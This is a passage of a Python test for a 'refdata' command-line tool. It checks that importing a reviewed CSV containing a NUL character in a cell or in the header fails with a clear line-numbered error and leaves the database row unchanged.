    assert cli("--config", str(write_config(PUBLIC_CONFIG)), "apply").returncode == 0
    db.execute("INSERT INTO facts VALUES ('N1', 1)")
    out = tmp_path / "pending.csv"
    assert cli("export-pending", "-o", str(out)).returncode == 0
    rows = read_csv(out)
    column = rows[0].index("name")
    if where == "cell":
        rows[1][column] = "a\x00b"
    else:
        rows[0][column] = "na\x00me"
    write_csv(out, rows, encoding="utf-8")
    result = cli("review", "import", str(out))
    line = 2 if where == "cell" else 1
    assert (result.returncode, result.stderr) == (
        2, f'refdata: error: {out}:{line}: column "na\\x00me" holds a NUL character, which PostgreSQL text cannot hold\n'
        if where == "header" else
        f'refdata: error: {out}:{line}: column "name" holds a NUL character, which PostgreSQL text cannot hold\n')
    assert db.execute("SELECT name, _needs_review FROM plans").fetchall() == [(None, True)]
